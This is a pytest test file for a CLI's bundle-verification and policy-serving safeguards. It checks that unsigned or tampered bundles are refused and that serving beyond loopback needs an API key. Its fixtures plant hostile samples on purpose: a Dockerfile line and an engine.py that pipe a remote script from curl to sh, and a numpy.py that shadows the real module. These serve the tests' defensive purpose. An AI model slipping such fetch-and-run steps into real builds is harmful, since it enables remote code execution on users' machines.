"""Safe by default, unsafe by flag: ``flows policy serve`` beyond loopback (decided on the
resolved address) needs an API key unless ``--allow-no-key``; ``flows bundle verify`` exits 2
on a bundle whose signature no key checked, or whose code members (``engine.py``,
``runtime.py``, the rendered ``Dockerfile``, any member this version does not pack) are not
byte for byte what this version packs, signed or not, unless ``--allow-unsigned``, which still
prints what differs."""

from __future__ import annotations

import shutil
import socket
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from flows.cli import main
from tests.flows.test_trust_policy_cli import pendulum_bundles, serve_once
from tests.support import free_port

TASK = "gymnasium:InvertedPendulum-v5"
CURL = "RUN curl -fsSL https://example.com/setup.sh | sh"
FOREIGN_ENGINE = b"import os\nos.system('curl -fsSL https://example.com/x | sh')\n"


@pytest.fixture(scope="module")
def bundles(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    """:func:`pendulum_bundles` (this version's packing: signed, foreign, unsigned); its
    hostile twins (a Dockerfile that pipes a remote script to sh, an engine.py that is not
    this project's), unsigned and signed with "ours"; one with an extra ``numpy.py``; and
    both key pairs."""
    from edge import container
    from edge.bundle import unpack_bundle, write_bundle
    from edge.targets import get_target

    folder = tmp_path_factory.mktemp("bundles")
    out = pendulum_bundles(folder)
    ours = out["ours.pem"]
    parts = folder / "parts"
    manifest = unpack_bundle(out["unsigned"], parts)
    files = {name: parts / name for name in manifest.pop("files")}
    del manifest["format_version"]
    hostile = folder / "hostile"
    hostile.mkdir()
    recipe = (parts / "Dockerfile").read_text().splitlines(keepends=True)
    at = next(k for k, line in enumerate(recipe) if line.startswith("WORKDIR"))
    (hostile / "Dockerfile").write_text("".join([*recipe[:at], CURL + "\n", *recipe[at:]]))
    (hostile / "engine.py").write_bytes(FOREIGN_ENGINE)
    swapped = {**files, "Dockerfile": hostile / "Dockerfile", "engine.py": hostile / "engine.py"}
    for name, key in (("hostile", None), ("hostile-signed", ours)):
        out[name] = folder / f"{name}.tar"
        write_bundle(out[name], swapped, manifest, signing_key=key)
    extra = folder / "extra"  # numpy.py beside engine.py shadows numpy when it runs
    extra.mkdir()
    shutil.copyfile(files["engine.py"], extra / "numpy.py")
    (extra / "Dockerfile").write_text(container.dockerfile(
        get_target("jetson-agx-orin"), manifest, [*files, "numpy.py"]))
    out["extra"] = folder / "extra.tar"
    write_bundle(out["extra"], {**files, "numpy.py": extra / "numpy.py",
                                "Dockerfile": extra / "Dockerfile"}, manifest, signing_key=ours)
    return out


@pytest.fixture
def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A folder with no project state, no API key in the environment; its ``PHYSAI_HOME``
    holds no key until a test puts one there."""
    home = tmp_path / ".physai"
    monkeypatch.setenv("PHYSAI_HOME", str(home))
    for var in ("PHYSAI_STORE", "MLFLOW_TRACKING_URI", "PREFECT_API_URL", "PREFECT_HOME",
                "PHYSAI_POLICY_API_KEY"):
        monkeypatch.delenv(var, raising=False)
    monkeypatch.chdir(tmp_path)
    return home


def _project_key(home: Path, bundles: dict[str, Path]) -> Path:
    """Make ``bundles``' "ours" pair the project's own key under ``home``; its public key."""
    from stages.steps.bundles import project_key_paths

    private, public = project_key_paths(home)
    private.parent.mkdir(parents=True)
    shutil.copyfile(bundles["ours.pem"], private)
    private.chmod(0o600)
    shutil.copyfile(bundles["ours.pub"], public)
    return public


def _verify(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str, list[str]]:
    """``flows bundle verify ARGS`` in process: (exit status, stdout, stderr lines)."""
    code = main(["bundle", "verify", *args])
    captured = capsys.readouterr()
    return code, captured.out, captured.err.strip().splitlines()


# --------------------------------------------------------------------------- bundle verify


def test_verify_refuses_an_unsigned_bundle_with_foreign_code_naming_the_member(
    project: Path, bundles: dict[str, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    code, out, err = _verify(capsys, str(bundles["hostile"]))
    assert code == 2 and out == "" and len(err) == 1, (code, out, err)
    assert str(bundles["hostile"]) in err[0], err
    assert "member 'Dockerfile' differs from what this version packs" in err[0], err
    assert "curl -fsSL https://example.com/setup.sh | sh" in err[0], err
    assert "member 'engine.py' differs too" in err[0] and "--allow-unsigned" in err[0], err


def test_verify_allow_unsigned_exits_0_and_prints_what_differs(
    project: Path, bundles: dict[str, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    code, out, err = _verify(capsys, str(bundles["hostile"]), "--allow-unsigned")
    assert code == 0, err
    lines = out.splitlines()
    differs = [line for line in lines if line.startswith("code: ")]
    assert len(differs) == 2, lines
    assert "member 'Dockerfile' differs" in differs[0] and CURL in differs[0], differs
    assert "member 'engine.py' differs" in differs[1], differs
    assert "first at line 1: 'import os'" in differs[1], differs
    assert any(line.startswith("signature: NOT checked") for line in lines), lines
    assert len(err) == 1 and err[0].startswith("warning: ") and "--allow-unsigned" in err[0]


def test_verify_refuses_an_unsigned_bundle_of_this_versions_code_without_a_key(
    project: Path, bundles: dict[str, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    code, out, err = _verify(capsys, str(bundles["unsigned"]))
    assert code == 2 and out == "" and len(err) == 1, (code, out, err)
    assert "signature NOT checked" in err[0] and "unsigned.tar" in err[0], err
    code, out, err = _verify(capsys, str(bundles["unsigned"]), "--trust",
                             str(bundles["ours.pub"]))
    assert code == 2 and len(err) == 1 and "the bundle is unsigned" in err[0], err
    _project_key(project, bundles)  # the project's own key checks it by default
    code, out, err = _verify(capsys, str(bundles["unsigned"]))
    assert code == 2 and len(err) == 1 and "the bundle is unsigned" in err[0], err
    code, out, err = _verify(capsys, str(bundles["unsigned"]), "--allow-unsigned")
    assert code == 0, err
    assert ("code: engine.py, runtime.py, Dockerfile: byte for byte what this version packs"
            in out), out
    assert "signature: NOT checked" in out and len(err) == 1, err


def test_verify_passes_a_signed_bundle_of_this_versions_code(
    project: Path, bundles: dict[str, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    code, out, err = _verify(capsys, str(bundles["signed"]), "--trust", str(bundles["ours.pub"]))
    assert code == 0 and err == [], err
    assert "code: engine.py, runtime.py, Dockerfile: byte for byte what this version packs" in out
    assert f"signature: made with the key of {bundles['ours.pub']}" in out
    code, out, err = _verify(capsys, str(bundles["signed"]), "--trust",
                             str(bundles["foreign.pub"]))
    assert code == 2 and len(err) == 1 and "another key" in err[0], err
    public = _project_key(project, bundles)
    code, out, err = _verify(capsys, str(bundles["signed"]))
    assert code == 0 and f"signature: made with the key of {public}" in out, err


def test_verify_refuses_a_signed_bundle_whose_code_is_not_this_versions(
    project: Path, bundles: dict[str, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    trust = ("--trust", str(bundles["ours.pub"]))
    code, out, err = _verify(capsys, str(bundles["hostile-signed"]), *trust)
    assert code == 2 and out == "" and len(err) == 1, (code, out, err)
    assert "member 'Dockerfile' differs" in err[0], err
    assert "member 'engine.py' differs too" in err[0], err
    code, out, err = _verify(capsys, str(bundles["extra"]), *trust)
    assert code == 2 and len(err) == 1, err
    assert "member 'numpy.py' is not one this version packs:" in err[0], err
    code, out, err = _verify(capsys, str(bundles["hostile-signed"]), *trust, "--allow-unsigned")
    assert code == 0 and "member 'engine.py' differs" in out, err
    assert f"signature: made with the key of {bundles['ours.pub']}" in out
    assert len(err) == 1 and "2 member(s) not what this version packs" in err[0], err
    code, out, err = _verify(capsys, str(bundles["hostile-signed"]), "--trust",
                             str(bundles["foreign.pub"]), "--allow-unsigned")
    assert code == 2 and len(err) == 1 and "another key" in err[0], err


def test_what_this_version_packs_is_the_edge_packages_own_answer(
        bundles: dict[str, Path]) -> None:
    """``edge.pack.packed_members`` (what verify compares with) names every member the packer
    wrote: the scripts and the rendered Dockerfile by their very bytes, the policy's own
    members as None; a bundle with another engine.py and Dockerfile differs in just those."""
    from edge.bundle import open_bundle
    from edge.manifest import check_bundle
    from edge.pack import SCRIPTS, packed_members

    contents = open_bundle(bundles["unsigned"])
    packed = packed_members(check_bundle(contents))
    assert sorted(packed) == sorted(contents.members)
    code = {name: bytes(view) for name, view in contents.members.items()
            if packed[name] is not None}
    assert sorted(code) == sorted([*SCRIPTS, "Dockerfile"]) and code == {
        name: packed[name] for name in code}
    hostile = open_bundle(bundles["hostile"])
    differ = [n for n, b in packed_members(check_bundle(hostile)).items()
              if b is not None and bytes(hostile.members[n]) != b]
    assert sorted(differ) == ["Dockerfile", "engine.py"]


def test_inspect_refuses_allow_unsigned(
    project: Path, bundles: dict[str, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["bundle", "inspect", str(bundles["hostile"]), "--allow-unsigned"]) == 2
    (line,) = capsys.readouterr().err.strip().splitlines()
    assert "--allow-unsigned" in line and "only bundle drive and verify" in line, line


# --------------------------------------------------------------------------- policy serve

@pytest.fixture
def served(project: Path, bundles: dict[str, Path]) -> Callable[..., tuple[int | None, list[str]]]:
    """``served(*args, call=HOST, key=None)``: :func:`serve_once` of the signed bundle, which
    the project's key trusts; (exit status or None once it answered at HOST, stderr lines)."""
    _project_key(project, bundles)

    def run(*args: str, call: str = "127.0.0.1",
            key: str | None = None) -> tuple[int | None, list[str]]:
        code, lines, _ = serve_once(str(bundles["signed"]), *args, call=call, key=key)
        return code, lines

    return run


@pytest.mark.parametrize("host", ["0.0.0.0", "::"])
def test_serving_beyond_loopback_without_a_key_is_refused_binding_nothing(
    project: Path, bundles: dict[str, Path], monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str], host: str,
) -> None:
    """The project key trusts the bundle, so only the missing API key stands in the way; a
    bind would be recorded (and fail, so that a server that got that far stops)."""
    _project_key(project, bundles)
    port = free_port()
    bound: list[Any] = []

    def bind(self: socket.socket, address: Any) -> None:
        bound.append(address)
        raise OSError(f"this test binds nothing ({address})")

    monkeypatch.setattr(socket.socket, "bind", bind)
    code = main(["policy", "serve", str(bundles["signed"]), "--host", host, "--port", str(port)])
    captured = capsys.readouterr()
    assert code == 2 and captured.out == "", captured
    (line,) = captured.err.strip().splitlines()
    assert f"--host: it resolves to {host}, beyond loopback" in line, line
    assert f"(value: '{host}')" in line and "--allow-no-key" in line, line
    assert bound == []


def test_a_name_is_loopback_only_when_every_address_it_resolves_to_is(
    monkeypatch: pytest.MonkeyPatch
) -> None:
    from flows.serve_cli import beyond_loopback

    for host in ("localhost", "127.0.0.2", "::1"):
        assert beyond_loopback(host) is None, host
    assert beyond_loopback("no-such-host.invalid") is not None
    answers = [(socket.AF_INET, socket.SOCK_STREAM, 6, "", ("127.0.0.1", 0)),
               (socket.AF_INET, socket.SOCK_STREAM, 6, "", ("10.1.2.3", 0))]
    monkeypatch.setattr(socket, "getaddrinfo", lambda *_, **__: answers)
    assert beyond_loopback("robot-pc") == "it resolves to 10.1.2.3, beyond loopback"


def test_serving_beyond_loopback_with_a_key_or_the_flag_and_on_loopback_without(
    served: Callable[..., tuple[int | None, list[str]]], tmp_path: Path
) -> None:
    key = tmp_path / "api.key"
    key.write_text("k-0123456789\n")
    code, lines = served("--host", "0.0.0.0", "--api-key-file", str(key), key="k-0123456789")
    assert code is None and len(lines) == 1 and "API key required" in lines[0], lines
    code, lines = served("--host", "0.0.0.0", "--allow-no-key")
    assert code is None and len(lines) == 2, lines
    assert lines[0].startswith("warning: serving on 0.0.0.0 with no API key"), lines
    assert "--allow-no-key" in lines[0] and lines[1].startswith("serving "), lines
    code, lines = served("--host", "127.0.0.2", call="127.0.0.2")
    assert code is None and len(lines) == 1 and "on ws://127.0.0.2:" in lines[0], lines
    assert "no API key" in lines[0]
